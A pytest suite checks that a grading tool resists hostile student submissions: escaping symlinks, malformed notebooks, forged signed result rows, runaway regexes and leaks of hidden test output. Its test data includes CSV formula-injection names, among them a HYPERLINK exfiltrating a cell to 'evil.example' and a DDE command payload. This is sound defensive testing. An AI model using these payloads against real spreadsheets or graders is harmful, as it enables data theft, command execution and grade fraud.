"""A hostile student against grading's logic: their folder, their file names, the results
file, the output a checker or a pattern judges, and what a hidden case lets them see."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codedock_magic import CaseEnding, RunResult, RunStatus, check, load_cases
from codedock_magic.errors import CheckerError, InvalidValueError
from codedock_magic.grading.check import CheckResult, not_run
from codedock_magic.grading.compare import judge
from codedock_magic.grading.records import Records, from_cell, to_cell
from codedock_magic.grading.submissions import Submission, find_submissions
from codedock_magic.jupyter.checkrender import case_html, case_text, check_html, check_text
from codedock_magic.jupyter.checkviews import CheckTextView, check_metadata

from .fakes import run_result

FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _own_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))


# The folder


def test_a_hostile_folder_gets_a_row_for_each_entry_and_never_reaches_outside(
    tmp_path: Path,
) -> None:
    teacher = tmp_path / "teacher"
    teacher.mkdir()
    (teacher / "solution.py").write_text("print('TEACHER-SECRET')\n")
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "ok.py").write_text("print(1)\n")
    (folder / "thief.py").symlink_to(teacher / "solution.py")
    (folder / "relative.py").symlink_to(Path("..") / "teacher" / "solution.py")
    (folder / "whole").symlink_to(teacher)
    (folder / "inner").mkdir()
    (folder / "inner" / "main.py").symlink_to(teacher / "solution.py")
    (folder / "twin.py").symlink_to(folder / "ok.py")  # inside: followed
    (folder / "dangling.py").symlink_to(folder / "nowhere.py")
    (folder / "loop.py").symlink_to(folder / "loop.py")
    (folder / "nested.ipynb").write_text("[" * 200_000 + "]" * 200_000)
    tagged = {"tags": ["answer"]}
    deep_cells = {"cells": [{"cell_type": "code", "metadata": tagged, "source": [[["x"]]]}]}
    (folder / "odd.ipynb").write_text(json.dumps(deep_cells))
    (folder / "tags.ipynb").write_text(
        json.dumps({"cells": [{"cell_type": "code", "metadata": {"tags": "xanswerx"}}]})
    )
    (folder / "text.ipynb").write_text("not json at all")
    (folder / "binary.ipynb").write_bytes(os.urandom(2048) + b"\xff\xfe")
    (folder / "number.ipynb").write_text('{"cells": ' + "9" * 100_000 + "}")
    os.mkfifo(folder / "fifo.py")
    (folder / "shot.png").write_bytes(b"\x89PNG")
    (folder / "folder.py").mkdir()
    started = time.monotonic()
    found = {s.student: s for s in find_submissions(folder)}
    assert time.monotonic() - started < 10  # the FIFO was never opened for a blocking read
    assert sorted(found) == sorted(
        [
            "ok",
            "thief",
            "relative",
            "whole",
            "inner",
            "twin",
            "dangling",
            "loop",
            "nested",
            "odd",
            "tags",
            "text",
            "binary",
            "number",
            "fifo",
            "shot.png",
            "folder",
        ]
    )
    assert found["ok"].code == found["twin"].code == b"print(1)\n" and not found["ok"].problem
    for name in ("thief", "relative", "whole", "inner"):
        assert "symlink leading out of the submissions folder" in found[name].problem, name
    assert "inner/main.py" in found["inner"].problem
    for name, why in {
        "dangling": "could not be read",
        "loop": "could not be read",
        "nested": "not a readable notebook (RecursionError)",
        "odd": "not a readable notebook",
        "tags": "no code cell tagged 'answer'",
        "text": "not a readable notebook",
        "binary": "not a readable notebook",
        "number": "not a readable notebook",
        "fifo": "not a regular file",
        "shot.png": "not a submission",
        "folder": "is a folder, not a file",
    }.items():
        assert why in found[name].problem, (name, found[name].problem)
    for submission in found.values():
        assert b"TEACHER-SECRET" not in submission.code
        assert (submission.code == b"") == bool(submission.problem)


def test_an_unreadable_file_is_a_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "locked.py").write_text("print(1)")
    (tmp_path / "fine.py").write_text("print(1)")
    real_open = os.open

    def refusing(path: Any, *args: Any, **kwargs: Any) -> int:
        # As root every file can be read: the refusal a grader without root meets.
        if str(path).endswith("locked.py"):
            raise PermissionError(13, "Permission denied")
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", refusing)
    found = {s.student: s for s in find_submissions(tmp_path)}
    assert (
        found["locked"].problem == "locked.py could not be read (Permission denied); it was not run"
    )
    assert found["fine"].code == b"print(1)"


# The CSV


@given(st.text(max_size=30))
def test_a_cell_never_starts_a_formula_and_reads_back_exactly(text: str) -> None:
    cell = to_cell(text)
    assert not cell.startswith(FORMULA) and from_cell(cell) == text


def _cases() -> Any:
    return load_cases([{"name": "a", "expected": "1"}, {"name": "-b", "expected": "2"}])


def _passing(cases: Any) -> CheckResult:
    result = not_run(cases, "")
    from dataclasses import replace

    from codedock_magic.grading.check import Verdict

    return replace(
        result,
        cases=tuple(
            replace(c, verdict=Verdict.PASSED, points=c.max_points, detail="") for c in result.cases
        ),
    )


def test_names_chosen_by_students_cannot_run_as_formulas_or_forge_rows(tmp_path: Path) -> None:
    cases = _cases()
    out = tmp_path / "r.csv"
    records = Records(out, cases)
    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\tTAB",
        "\rCR",
        "'=quoted",
        "ada\r\nmallory,2,2,2,2,passed,passed,,x,y,z",
    ]
    for name in names:
        submission = Submission(name, tmp_path / f"{name}.py", b"print(1)", f"{name}.py: note")
        records.add(submission, not_run(cases, "because"))
    rows = list(csv.reader(io.StringIO(out.open(newline="").read(), newline="")))
    assert len(rows) == 1 + len(names)  # no row smuggled in through a name
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), cell
    again = Records(out, cases)
    assert sorted(again.rows) == sorted(names) and again.untrusted == []
    assert all(
        again.graded(Submission(n, tmp_path / "x", b"print(1)", f"{n}.py: note")) for n in names
    )


def _sha(code: bytes) -> str:
    return hashlib.sha256(code).hexdigest()


def test_a_forged_or_tampered_row_is_graded_again_and_a_malformed_one_never_crashes(
    tmp_path: Path,
) -> None:
    cases = _cases()
    out = tmp_path / "r.csv"
    records = Records(out, cases)
    honest = Submission("ada", tmp_path / "ada.py", b"print(1)")
    records.add(honest, not_run(cases, ""))
    records.add(Submission("bob", tmp_path / "bob.py", b"print(2)"), not_run(cases, ""))
    lines = out.open(newline="").read().splitlines()
    header, ada = lines[0], next(line for line in lines if line.startswith("ada,"))
    cells = next(csv.reader([ada]))
    digest = cells[-2]
    # mallory knows her own code and copies the cases' digest and a signature.
    mallory = b"print('hello')"
    forged = ["mallory", "2", "2", "2", "2", "passed", "passed", "", _sha(mallory), digest]
    lines.append(",".join([*forged, cells[-1]]))
    lines.append(",".join([*forged, "0" * 64]))
    lines = [
        line.replace(",0,2,0,2,error,error,", ",2,2,2,2,passed,passed,")
        if line.startswith("bob,")
        else line
        for line in lines
    ]
    lines += ["carol,1", "dave," + ",".join(["x"] * 30), "\x00\x00binary"]
    out.write_text("\r\n".join(lines) + "\r\n", newline="")
    again = Records(out, cases)
    assert sorted(again.rows) == ["ada"]
    assert {"mallory", "bob", "carol", "dave"} <= set(again.untrusted)
    assert again.graded(honest)
    assert not again.graded(Submission("mallory", tmp_path / "m.py", mallory))
    # With another grader's key, nothing is trusted.
    assert Records(out, cases, key=b"k" * 32).rows == {}
    # A row signed by us but for other cases is another file's, as before.
    assert header.startswith("student,")


@pytest.mark.parametrize(
    "tamper",
    [
        lambda row: row.update(score=2.0),
        lambda row: row["cases"][0].update(verdict="passed", points=1.0),
        lambda row: row.update(submission_sha256=_sha(b"other")),
        lambda row: row.pop("signature"),
        lambda row: row.update(signature=None),
    ],
)
def test_a_tampered_json_record_is_graded_again(tmp_path: Path, tamper: Any) -> None:
    cases = _cases()
    out = tmp_path / "r.json"
    Records(out, cases).add(Submission("ada", tmp_path / "ada.py", b"x"), not_run(cases, ""))
    Records(out, cases).add(Submission("bob", tmp_path / "bob.py", b"x"), not_run(cases, ""))
    data = json.loads(out.read_text())
    tamper(data["submissions"]["ada"])
    data["submissions"]["eve"] = [1, 2]
    out.write_text(json.dumps(data))
    again = Records(out, cases)
    assert sorted(again.rows) == ["bob"] and sorted(again.untrusted) == ["ada", "eve"]


def test_a_results_file_that_is_not_one_is_refused_in_one_line(tmp_path: Path) -> None:
    cases = _cases()
    for name, text in (("r.json", "[" * 100_000), ("r.csv", "\x00" * 10), ("r.json", "{}")):
        (tmp_path / name).write_text(text)
        with pytest.raises(InvalidValueError, match="--fresh"):
            Records(tmp_path / name, cases)


# Checkers and patterns


def _in_a_child(code: str, limit: float = 60) -> subprocess.CompletedProcess[str]:
    # Without a bound of their own, these hang whoever judges: here a child we can kill.
    script = textwrap.dedent(code)
    return subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=limit
    )


def test_a_catastrophic_pattern_on_a_students_output_ends_in_bounded_time() -> None:
    done = _in_a_child(
        """
        import threading, time
        from codedock_magic import Case
        from codedock_magic.errors import CheckerError
        from codedock_magic.grading.compare import judge

        ticks = []
        def tick():
            while len(ticks) < 1000:
                ticks.append(1)
                time.sleep(0.01)
        threading.Thread(target=tick, daemon=True).start()
        case = Case("pattern", expected=r"(a+)+b", compare="regex")
        started = time.monotonic()
        try:
            # A second's bound, not the default's five: the same child and the same kill.
            judge(case, "a" * 60, seconds=1.0)
        except CheckerError as exc:
            print("took", round(time.monotonic() - started, 1), "ticks", len(ticks) > 50)
            print(exc)
        """
    )
    assert done.returncode == 0, done.stderr
    took = float(done.stdout.split()[1])
    assert 0.5 <= took < 1.0 + 10, done.stdout
    # The interpreter went on meanwhile: the pattern ran elsewhere.
    assert "ticks True" in done.stdout
    assert "the checker of case 'pattern' raised a timeout: the regex compare ran past" in (
        done.stdout
    )


def test_a_checker_that_never_ends_is_stopped() -> None:
    done = _in_a_child(
        """
        import re
        from codedock_magic import Case
        from codedock_magic.grading.compare import judge

        def spins(out, case):
            while True:
                pass

        def backtracks(out, case):
            return re.fullmatch(r"(x+x+)+y", out) is not None

        for checker in (spins, backtracks):
            try:
                judge(Case("c", compare="checker", checker=checker), "x" * 50, seconds=1)
            except Exception as exc:
                print(type(exc).__name__, exc)
        print(judge(Case("d", compare="checker", checker=lambda o, c: (0.5, "half")), "x"))
        """
    )
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert len(lines) == 3 and all(line.startswith("CheckerError") for line in lines[:2])
    assert "ran past 1 s" in lines[0] and lines[2] == "(0.5, 'half')"


def test_a_checker_runs_on_a_copy_so_what_it_prints_goes_nowhere() -> None:
    def noisy(out: str, case: Any) -> bool:
        print("CHATTER")
        return out == "7"

    from codedock_magic import Case

    assert judge(Case("c", compare="checker", checker=noisy), "7") == (1.0, "")


# Hidden cases


MARKERS = ("leak-out-4242", "leak-err-4343", "exit 97", "7.65", "97")


class HiddenBackend:
    """Answers a visible case well and a hidden one with output, stderr, an exit code, a time."""

    def run(self, request: Any, **kwargs: Any) -> RunResult:
        def ending(index: int) -> CaseEnding:
            # Known by its stdin: a hidden case runs in a sandbox (a request) of its own.
            hidden = request.cases[index].stdin == b"s"
            return CaseEnding(
                status=RunStatus.ERROR if hidden else RunStatus.OK,
                exit_code=97 if hidden else 0,
                signal=None,
                stdout="leak-out-4242\n" if hidden else "1\n",
                stderr="leak-err-4343" if hidden else "",
                duration=7.654321 if hidden else 0.25,
                truncated=False,
                timeout=2.0,
                memory=64 * 1024**2,
                note="",
            )

        cases = tuple(ending(i) for i in range(len(request.cases)))
        for index, ran in enumerate(cases):
            kwargs["listener"].case(index, ran)
        return run_result(cases=cases, duration=8.0, cpu_seconds=1.0, peak_memory=12345678)


HIDDEN_CASES = [
    {"name": "shown", "stdin": "1", "expected": "1"},
    {"name": "secret", "stdin": "s", "expected": "x", "hidden": True, "points": 2},
]


def test_a_hidden_case_shows_only_its_name_verdict_and_points_anywhere_a_student_looks() -> None:
    seen: list[str] = []
    view = io.StringIO()
    text_view = CheckTextView(view)

    def on_case(index: int, case: Any) -> None:
        seen.append(case_html(case) + case_text(case) + repr(case))
        text_view.on_case(index, case)

    result = check("", HIDDEN_CASES, backend=HiddenBackend(), on_case=on_case)  # type: ignore[arg-type]
    text_view.finish(result)
    secret = result.cases[1]
    assert (secret.name, secret.verdict.value, secret.points, secret.max_points) == (
        "secret",
        "error",
        0,
        2,
    )
    assert secret.to_dict() == {
        "name": "secret",
        "verdict": "error",
        "points": 0.0,
        "max_points": 2.0,
        "hidden": True,
        "withheld": True,
    }
    ending = result.run.cases[1]
    assert (ending.exit_code, ending.stdout, ending.stderr, ending.duration) == (None, "", "", 0)
    assert result.run.peak_memory is None and result.run.cpu_seconds is None
    everything = "\n".join(
        [
            *seen,
            view.getvalue(),
            repr(result),
            result.to_json(),
            json.dumps(result.to_dict()),
            check_html(result),
            check_text(result),
            json.dumps(check_metadata(result)),
        ]
    )
    for marker in MARKERS:
        assert marker not in everything, marker
    # The visible case is shown whole.
    assert "0.25 s" in check_text(result)


def test_the_teachers_view_keeps_everything_of_a_hidden_case() -> None:
    result = check("", HIDDEN_CASES, backend=HiddenBackend(), reveal_hidden=True)  # type: ignore[arg-type]
    secret = result.cases[1]
    assert (secret.stdout, secret.stderr, secret.detail) == (
        "leak-out-4242\n",
        "leak-err-4343",
        "exit 97",
    )
    assert result.run.cases[1].exit_code == 97 and result.run.peak_memory == 12345678
    shown = check_text(result) + check_html(result)
    assert "exit 97" in shown and "leak-err-4343" in shown and "7.65 s" in shown


class PrintsItsInput(HiddenBackend):
    """Every case ends ok, having printed what it read: the hidden input."""

    def run(self, request: Any, **kwargs: Any) -> RunResult:
        result = super().run(request, listener=type(kwargs["listener"])(), stop=None)
        from dataclasses import replace

        cases = tuple(
            replace(c, status=RunStatus.OK, exit_code=0, stdout="hidden-input-99")
            for c in result.cases
        )
        for index, ran in enumerate(cases):
            kwargs["listener"].case(index, ran)
        return replace(result, cases=cases)


def test_a_checkers_error_on_a_hidden_case_does_not_quote_its_output() -> None:
    def strict(out: str, case: Any) -> bool:
        return int(out) > 0

    for hidden, shown in ((True, False), (False, True)):
        cases = [{"name": "c", "compare": "checker", "checker": strict, "hidden": hidden}]
        with pytest.raises(CheckerError) as caught:
            check("", cases, backend=PrintsItsInput())  # type: ignore[arg-type]
        assert "ValueError" in str(caught.value)
        assert ("hidden-input-99" in str(caught.value)) is shown


def test_a_file_from_before_rows_were_signed_is_graded_again_not_refused(tmp_path: Path) -> None:
    cases = _cases()
    out = tmp_path / "r.csv"
    Records(out, cases).add(Submission("ada", tmp_path / "ada.py", b"x"), not_run(cases, ""))
    lines = out.open(newline="").read().splitlines()
    unsigned = [line.rsplit(",", 1)[0] for line in lines]
    out.write_text("\n".join(unsigned) + "\n")
    again = Records(out, cases)
    assert again.rows == {} and again.untrusted == ["ada"]
    with pytest.raises(InvalidValueError, match="--fresh"):
        Records(out, load_cases([{"name": "a", "expected": "1"}]))
    other = unsigned[1].replace(unsigned[1].rsplit(",", 1)[1], "0" * 64)
    out.write_text("\n".join([unsigned[0], other]) + "\n")
    with pytest.raises(InvalidValueError, match="--fresh"):
        Records(out, cases)
